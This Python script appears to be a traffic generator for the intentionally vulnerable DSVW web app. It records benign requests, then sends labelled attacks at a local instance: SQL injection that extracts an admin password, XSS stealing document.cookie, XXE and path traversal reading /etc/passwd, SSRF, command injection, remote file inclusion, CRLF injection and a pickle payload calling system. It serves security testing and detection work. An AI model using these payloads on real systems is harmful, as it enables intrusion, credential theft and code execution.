"""Damn Small Vulnerable Web: one page, a parameter for each hole."""

import http.server
import threading
from urllib.parse import quote

FOLDER = "DSVW"


def start(port):
    return (
        "import sys, runpy\n"
        "source = open('dsvw.py').read()\n"
        f"source = source.replace('65412', '{port}')\n"
        "exec(compile(source, 'dsvw.py', 'exec'), {'__name__': '__main__'})\n"
    )


def environment(environ):
    return dict(environ)


def ordinary(recorder):
    recorder.use("GET", "/")
    for number in range(1, 5):
        recorder.use("GET", f"/?id={number}", {"referer": "http://dsvw.example/"})
    for version in ["0.3", "0.2b", "1.0-rc1"]:
        recorder.use("GET", f"/?v={version}")
    for text in ["Nice page!", "I'd select this one; drop me a line", "5 > 3 && 2 < 4, isn't it?", "C'est l'heure",
                 "Tom & Jerry <3", "see https://example.com/a?b=c"]:
        recorder.use("GET", f"/?comment={quote(text)}")
    recorder.use("GET", "/?comment=")
    recorder.use("GET", "/users.json")
    recorder.use("GET", "/users.json?callback=process")
    for name, password in [("dricci", "12345"), ("amason", "gandalf"), ("svargas", "phest1945"), ("amason", "G4nd@lf! #1")]:
        recorder.use("GET", f"/login?username={name}&password={quote(password)}")
    for name in ["dian", "anthony", "sandra", "nobody"]:
        recorder.use("GET", f"/?name={name}")
    for size in [16, 32, 48]:
        recorder.use("GET", f"/?size={size}")
    recorder.use("GET", "/?charset=utf8")
    recorder.use("GET", f"/?xml={quote('<root></root>')}")
    recorder.use("GET", f"/?xml={quote('<order><item>tea</item></order>')}")
    recorder.use("GET", "/?redir=%2F%3Fid%3D1")
    recorder.use("GET", "/favicon.ico")
    recorder.use("GET", "/robots.txt")


class Inner(http.server.BaseHTTPRequestHandler):
    """Stands for what lies behind the firewall, and for a server of the attacker's."""

    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"print('included-' + str(6 * 7))" if "code" in self.path else b"inner-only")

    def log_message(self, *_):
        pass


def attacks(recorder, free_port):
    port = free_port()
    inner = http.server.ThreadingHTTPServer(("127.0.0.1", port), Inner)
    threading.Thread(target=inner.serve_forever, daemon=True).start()

    def step(what, expected, target, proof):
        check = proof if callable(proof) else lambda status, text: proof in text
        return recorder.step(what, expected, "GET", target, proof=check)

    def by(name, value):
        return f"/?{name}={quote(value, safe='')}"

    secret = "(SELECT password FROM users WHERE name='admin')"
    yield step("blind SQL injection by truth", "sqli", by("id", f"2 AND SUBSTR({secret},1,1)='7'"), "dricci")
    yield step("blind SQL injection by time", "sqli",
               by("id", f"(SELECT (CASE WHEN (SUBSTR({secret},2,1)='e') THEN (LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(3000000))))) ELSE 0 END))"),
               lambda status, text: status == 200)
    yield step("UNION SQL injection", "sqli",
               by("id", "2 UNION ALL SELECT NULL, NULL, NULL, (SELECT id||','||username||','||password FROM users WHERE username='admin')"),
               "7en8aiDoh!")
    yield step("login without a password", "sqli", f"/login?username=admin&password={quote(chr(39) + ' OR ' + chr(39) + '1' + chr(39) + ' LIKE ' + chr(39) + '1')}", "Welcome")
    yield step("reflected XSS", "xss", by("v", "0.3<script>alert(\"arbitrary javascript\")</script>"), "<script>alert(\"arbitrary")
    yield step("stored XSS", "xss", by("comment", "<img src=x onerror=alert(document.cookie)>"), "Thank you")
    yield step("JSONP XSS", "xss", "/users.json?callback=" + quote("alert(\"arbitrary javascript\");process"), "alert(\"arbitrary")
    yield step("frame for phishing", "xss", by("v", "0.3<iframe src=\"http://evil.example/login.html\" style=\"position:fixed;top:0\"></iframe>"), "<iframe src")
    yield step("file by external entity", "xxe",
               by("xml", "<!DOCTYPE example [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><root>&xxe;</root>"), "root:")
    yield step("request to an inner server", "ssrf", by("path", f"http://127.0.0.1:{port}/admin"), "inner-only")
    yield step("blind XPath injection", "xpath", by("name", "admin' and substring(password/text(),3,1)='n"), "admin")
    yield step("redirect elsewhere", "-", by("redir", "https://evil.example/login"), "https://evil.example")
    yield step("command behind a name", "rce", by("domain", "localhost; id"), "uid=")
    yield step("path traversal", "path-traversal", by("path", "../../../../../../etc/passwd"), "root:")
    yield step("the same, in one word", "path-traversal", by("path", "/etc/passwd"), "root:")
    yield step("remote file inclusion", "rfi", by("include", f"http://127.0.0.1:{port}/code.txt"), "included-42")
    yield step("header injection", "crlf", by("charset", "utf8\r\nX-Injected: yes\r\n\r\n<b>hello</b>"), "<b>hello</b>")
    yield step("made-up object", "deserialization", by("object", "cos\nsystem\n(S'true'\ntR."), lambda status, text: status == 200)
    inner.shutdown()
